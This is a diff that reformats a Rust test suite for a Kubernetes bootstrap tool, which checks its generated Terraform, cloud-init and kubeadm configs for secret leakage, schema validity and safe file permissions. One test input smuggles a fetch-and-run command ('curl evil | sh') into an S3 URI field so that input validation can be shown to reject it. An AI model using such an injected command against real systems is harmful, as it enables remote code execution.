@@ -35,11 +35,8 @@ const SERVICE_CIDR: &str = "172.20.0.0/16";
 const DOMAIN: &str = "corp.internal";
 
 /// Dedicated etcd members of the external topology.
-const ETCD_MEMBERS: [(&str, &str); 3] = [
-    ("etcd-a", "10.0.1.20"),
-    ("etcd-b", "10.0.2.20"),
-    ("etcd-c", "10.0.3.20"),
-];
+const ETCD_MEMBERS: [(&str, &str); 3] =
+    [("etcd-a", "10.0.1.20"), ("etcd-b", "10.0.2.20"), ("etcd-c", "10.0.3.20")];
 
 /// (instance, role, node name, node IP, external etcd?)
 const NODES: [(&str, &str, &str, &str, bool); 6] = [
@@ -52,21 +49,13 @@ const NODES: [(&str, &str, &str, &str, bool); 6] = [
 ];
 
 fn etcd_endpoints() -> Vec<String> {
-    ETCD_MEMBERS
-        .iter()
-        .map(|(_, ip)| format!("https://{ip}:2379"))
-        .collect()
+    ETCD_MEMBERS.iter().map(|(_, ip)| format!("https://{ip}:2379")).collect()
 }
 
 fn environment() -> String {
-    let endpoints: Vec<String> = etcd_endpoints()
-        .iter()
-        .map(|e| format!("\"{e}\""))
-        .collect();
-    let members: Vec<String> = ETCD_MEMBERS
-        .iter()
-        .map(|(n, ip)| format!("{n} = \"{ip}\""))
-        .collect();
+    let endpoints: Vec<String> = etcd_endpoints().iter().map(|e| format!("\"{e}\"")).collect();
+    let members: Vec<String> =
+        ETCD_MEMBERS.iter().map(|(n, ip)| format!("{n} = \"{ip}\"")).collect();
     let mut hcl = format!(
         r#"
 # kubeadm bootstrap token "[a-z0-9]{{6}}.[a-z0-9]{{16}}", as environments/dev makes it.
@@ -115,11 +104,7 @@ output "ca_key" {{
         members = members.join(", "),
     );
     for (instance, role, name, ip, external) in NODES {
-        let files = if role.starts_with("control-plane") {
-            "local.cp_files"
-        } else {
-            "{}"
-        };
+        let files = if role.starts_with("control-plane") { "local.cp_files" } else { "{}" };
         hcl.push_str(&format!(
             r#"
 module "{instance}" {{
@@ -141,11 +126,7 @@ module "{instance}" {{
   pki_files          = {files}
 }}
 "#,
-            etcd = if external {
-                "local.external"
-            } else {
-                "local.stacked"
-            },
+            etcd = if external { "local.external" } else { "local.stacked" },
         ));
     }
     for (output, attr, sensitive) in [
@@ -154,18 +135,12 @@ module "{instance}" {{
         ("kubeadm_config_path", "kubeadm_config_path", false),
         ("bundle", "bundle", true),
     ] {
-        let entries: Vec<String> = NODES
-            .iter()
-            .map(|(i, ..)| format!("    {i} = module.{i}.{attr}"))
-            .collect();
+        let entries: Vec<String> =
+            NODES.iter().map(|(i, ..)| format!("    {i} = module.{i}.{attr}")).collect();
         hcl.push_str(&format!(
             "\noutput \"{output}\" {{\n  value = {{\n{}\n  }}\n{}}}\n",
             entries.join("\n"),
-            if sensitive {
-                "  sensitive = true\n"
-            } else {
-                ""
-            }
+            if sensitive { "  sensitive = true\n" } else { "" }
         ));
     }
     hcl
@@ -309,16 +284,9 @@ fn bootstrap_user_data_passes_cloud_init_schema() {
     let dir = f.root.join("user-data");
     std::fs::create_dir_all(&dir).unwrap();
     for (instance, user_data) in &f.user_data {
-        assert!(
-            user_data.starts_with("#cloud-config\n"),
-            "{instance}: not a cloud-config"
-        );
+        assert!(user_data.starts_with("#cloud-config\n"), "{instance}: not a cloud-config");
         // EC2 refuses user data over 16 KiB.
-        assert!(
-            user_data.len() < 16 * 1024,
-            "{instance}: user_data is {} bytes",
-            user_data.len()
-        );
+        assert!(user_data.len() < 16 * 1024, "{instance}: user_data is {} bytes", user_data.len());
         let file = dir.join(format!("{instance}.yaml"));
         std::fs::write(&file, user_data).unwrap();
         let r = cloud_init_schema(&file);
@@ -345,18 +313,10 @@ fn bootstrap_user_data_passes_cloud_init_schema() {
 #[test]
 fn bootstrap_no_secret_in_user_data_plan_or_apply() {
     let f = fixture();
-    assert!(
-        f.token.len() == 23 && f.token.as_bytes()[6] == b'.',
-        "token {:?}",
-        f.token.len()
-    );
+    assert!(f.token.len() == 23 && f.token.as_bytes()[6] == b'.', "token {:?}", f.token.len());
     let token_secret = &f.token[7..];
     assert!(f.ca_key.contains("PRIVATE KEY"));
-    let key_body: String = f
-        .ca_key
-        .lines()
-        .filter(|l| !l.starts_with("-----"))
-        .collect();
+    let key_body: String = f.ca_key.lines().filter(|l| !l.starts_with("-----")).collect();
 
     // The secrets do reach the bundles (so the scans below look for something that exists).
     for (instance, bundle) in &f.bundle {
@@ -378,13 +338,8 @@ fn bootstrap_no_secret_in_user_data_plan_or_apply() {
 
     // The environment has a `random_password` resource, so "password" is only looked for in
     // what goes to the node.
-    let secrets = [
-        "PRIVATE KEY",
-        f.token.as_str(),
-        token_secret,
-        key_body.get(..40).unwrap(),
-        "aws_secret",
-    ];
+    let secrets =
+        ["PRIVATE KEY", f.token.as_str(), token_secret, key_body.get(..40).unwrap(), "aws_secret"];
     let forbidden = |what: &str, text: &str| {
         for needle in secrets {
             assert!(
@@ -398,10 +353,7 @@ fn bootstrap_no_secret_in_user_data_plan_or_apply() {
         let user_data = &crate::cloud_config::readable(user_data);
         forbidden(&format!("user_data of {instance}"), user_data);
         assert!(!user_data.to_lowercase().contains("password"), "{instance}");
-        forbidden(
-            &format!("kubeadm_config of {instance}"),
-            &f.kubeadm_config[instance],
-        );
+        forbidden(&format!("kubeadm_config of {instance}"), &f.kubeadm_config[instance]);
     }
     forbidden("plan", &f.plan_before.all());
     forbidden("apply", &f.apply.all());
@@ -457,10 +409,7 @@ fn bootstrap_kubeadm_documents_are_typed_v1beta4() {
             );
             assert_eq!(
                 reg.kubelet_extra_args,
-                vec![Arg {
-                    name: "node-ip".into(),
-                    value: ip.into()
-                }]
+                vec![Arg { name: "node-ip".into(), value: ip.into() }]
             );
         }
 
@@ -494,30 +443,16 @@ fn bootstrap_kubeadm_documents_pass_the_real_kubeadm() {
     }
     // And a configuration kubeadm must refuse is refused, so the check above can fail: a
     // kubernetesVersion outside what this kubeadm deploys.
-    let (_, text) = f
-        .kubeadm_config
-        .iter()
-        .find(|(i, _)| *i == "cp_init")
-        .unwrap();
+    let (_, text) = f.kubeadm_config.iter().find(|(i, _)| *i == "cp_init").unwrap();
     let old = text.replace(&format!("v{K8S}"), "v1.20.0");
     let out = crate::kubeutil::kubeadm_validate(
         &old.replace("SLIPWAY_BOOTSTRAP_TOKEN", &f.token),
         &scratch,
     );
-    assert_ne!(
-        out.code,
-        0,
-        "kubeadm accepted kubernetesVersion v1.20.0: {}",
-        out.all()
-    );
+    assert_ne!(out.code, 0, "kubeadm accepted kubernetesVersion v1.20.0: {}", out.all());
     // And the placeholder itself is not a token kubeadm takes: a missed substitution fails.
     let out = crate::kubeutil::kubeadm_validate(text, &scratch);
-    assert_ne!(
-        out.code,
-        0,
-        "kubeadm accepted the token placeholder: {}",
-        out.all()
-    );
+    assert_ne!(out.code, 0, "kubeadm accepted the token placeholder: {}", out.all());
 }
 
 #[test]
@@ -529,19 +464,12 @@ fn bootstrap_typed_structs_reject_misspelt_fields() {
     assert!(good.contains("\"controlPlaneEndpoint\":"));
     let misspelt = good.replace("\"controlPlaneEndpoint\":", "\"controlPlaneEndPoint\":");
     let docs = yaml_documents(&misspelt);
-    let errors: Vec<String> = docs
-        .into_iter()
-        .filter_map(|d| kubeadm_doc(d).err())
-        .collect();
+    let errors: Vec<String> = docs.into_iter().filter_map(|d| kubeadm_doc(d).err()).collect();
     assert_eq!(errors.len(), 1, "{errors:?}");
     assert!(errors[0].contains("controlPlaneEndPoint"), "{errors:?}");
 
     let old = good.replace(KUBEADM_API, "kubeadm.k8s.io/v1beta3");
-    assert!(
-        yaml_documents(&old)
-            .into_iter()
-            .all(|d| kubeadm_doc(d).is_err())
-    );
+    assert!(yaml_documents(&old).into_iter().all(|d| kubeadm_doc(d).is_err()));
     let join_typo =
         fixture().kubeadm_config["worker"].replace("\"caCertHashes\":", "\"caCertHash\":");
     assert!(kubeadm_doc(yaml_documents(&join_typo).remove(0)).is_err());
@@ -556,15 +484,11 @@ fn bootstrap_control_plane_init_config() {
         assert_eq!(cluster.api_server.cert_sans, vec![LB.to_string()]);
         // Prometheus on the workers scrapes both on their secure ports (issue #14): bound to
         // every address, not kubeadm's 127.0.0.1; authorization stays on (no flag turns it off).
-        for (what, c) in [
-            ("controllerManager", &cluster.controller_manager),
-            ("scheduler", &cluster.scheduler),
-        ] {
-            let args: Vec<(&str, &str)> = c
-                .extra_args
-                .iter()
-                .map(|a| (a.name.as_str(), a.value.as_str()))
-                .collect();
+        for (what, c) in
+            [("controllerManager", &cluster.controller_manager), ("scheduler", &cluster.scheduler)]
+        {
+            let args: Vec<(&str, &str)> =
+                c.extra_args.iter().map(|a| (a.name.as_str(), a.value.as_str())).collect();
             assert_eq!(args, [("bind-address", "0.0.0.0")], "{instance} {what}");
         }
         assert_eq!(init.local_api_endpoint.advertise_address, ip);
@@ -578,10 +502,7 @@ fn bootstrap_control_plane_init_config() {
         assert_eq!(t.ttl.as_deref(), Some("24h0m0s"));
         assert!(t.description.as_deref().unwrap_or("").contains("prod"));
         assert_eq!(t.usages, ["signing", "authentication"]);
-        assert_eq!(
-            t.groups,
-            ["system:bootstrappers:kubeadm:default-node-token"]
-        );
+        assert_eq!(t.groups, ["system:bootstrappers:kubeadm:default-node-token"]);
     }
 }
 
@@ -593,23 +514,15 @@ fn bootstrap_worker_and_control_plane_join_config() {
     assert_eq!(d.ca_cert_hashes, vec![CA_HASH.to_string()]);
     assert_eq!(d.token, "SLIPWAY_BOOTSTRAP_TOKEN");
     assert_eq!(worker.node_registration.name, "worker-a");
-    assert!(
-        worker.control_plane.is_none(),
-        "a worker must not join as control plane"
-    );
+    assert!(worker.control_plane.is_none(), "a worker must not join as control plane");
 
     for instance in ["cp_join", "ext_join"] {
         let (_, name, ip, _) = node(instance);
         let j = join(instance);
         assert_eq!(j.node_registration.name, name);
-        assert_eq!(
-            j.discovery.bootstrap_token.api_server_endpoint,
-            format!("{LB}:6443")
-        );
+        assert_eq!(j.discovery.bootstrap_token.api_server_endpoint, format!("{LB}:6443"));
         assert_eq!(j.discovery.bootstrap_token.ca_cert_hashes, vec![CA_HASH]);
-        let cp = j
-            .control_plane
-            .unwrap_or_else(|| panic!("{instance}: no controlPlane"));
+        let cp = j.control_plane.unwrap_or_else(|| panic!("{instance}: no controlPlane"));
         assert_eq!(cp.local_api_endpoint.advertise_address, ip);
         assert_eq!(cp.local_api_endpoint.bind_port, 6443);
     }
@@ -632,10 +545,7 @@ fn bootstrap_external_and_stacked_etcd() {
     for sans in [&l.server_cert_sans, &l.peer_cert_sans] {
         assert!(sans.contains(&"cp-a".to_string()) && sans.contains(&"10.0.1.10".to_string()));
     }
-    assert!(
-        l.extra_args.is_empty(),
-        "kubeadm manages stacked membership"
-    );
+    assert!(l.extra_args.is_empty(), "kubeadm manages stacked membership");
 
     // A dedicated member: etcd as a static pod under a standalone kubelet, peers from `members`.
     let (init, member) = init_and_cluster("etcd");
@@ -691,10 +601,7 @@ fn bootstrap_script_pins_packages_and_reads_the_bundle() {
         assert_eq!(mode, "0755");
         let r = run(Command::new("bash").args(["-n", "-c", script]), None);
         assert_eq!(r.code, 0, "{instance}: bash -n: {}", r.all());
-        let r = run(
-            Command::new("shellcheck").args(["--shell=bash", "-"]),
-            Some(script),
-        );
+        let r = run(Command::new("shellcheck").args(["--shell=bash", "-"]), Some(script));
         assert_eq!(r.code, 0, "{instance}: shellcheck: {}", r.all());
         for needle in [
             format!("ROLE='{role}'"),
@@ -710,23 +617,11 @@ fn bootstrap_script_pins_packages_and_reads_the_bundle() {
         ] {
             assert!(script.contains(&needle), "{instance}: no {needle:?}");
         }
-        assert_eq!(
-            files["/etc/modules-load.d/k8s.conf"].0,
-            "overlay\nbr_netfilter\n"
-        );
-        assert!(
-            files["/etc/sysctl.d/99-kubernetes.conf"]
-                .0
-                .contains("net.ipv4.ip_forward = 1")
-        );
+        assert_eq!(files["/etc/modules-load.d/k8s.conf"].0, "overlay\nbr_netfilter\n");
+        assert!(files["/etc/sysctl.d/99-kubernetes.conf"].0.contains("net.ipv4.ip_forward = 1"));
         let doc = &yaml_documents(user_data)[0];
         assert_eq!(doc["runcmd"], serde_json::json!([[SCRIPT]]));
-        assert!(
-            doc["packages"]
-                .as_array()
-                .unwrap()
-                .contains(&"awscli".into())
-        );
+        assert!(doc["packages"].as_array().unwrap().contains(&"awscli".into()));
         let command = match role {
             "control-plane-init" => "kubeadm init --config",
             "etcd" => "kubeadm init phase etcd local --config",
@@ -749,11 +644,7 @@ fn bootstrap_rejects_bad_inputs() {
             "bundle_s3_uri = \"s3://b/x'; curl evil | sh; '\"",
             "bundle_s3_uri must look like",
         ),
-        (
-            worker_uri,
-            "bundle_s3_uri = \"https://b/x\"",
-            "bundle_s3_uri must look like",
-        ),
+        (worker_uri, "bundle_s3_uri = \"https://b/x\"", "bundle_s3_uri must look like"),
         (
             "kubernetes_version = \"1.35.4\"",
             "kubernetes_version = \"v1.35\"",
@@ -866,8 +757,5 @@ fn bootstrap_script_writes_bundle_files_0600_and_substitutes_the_token() {
     let etcd_config = &f.kubeadm_config["etcd"];
     let b = serde_json::json!({"files": {}, "bootstrap_token": null});
     run_bundle_writer(&program, &b, etcd_config, false, dir).ok("etcd bundle writer");
-    assert_eq!(
-        &std::fs::read_to_string(&rendered_path).unwrap(),
-        etcd_config
-    );
+    assert_eq!(&std::fs::read_to_string(&rendered_path).unwrap(), etcd_config);
 }
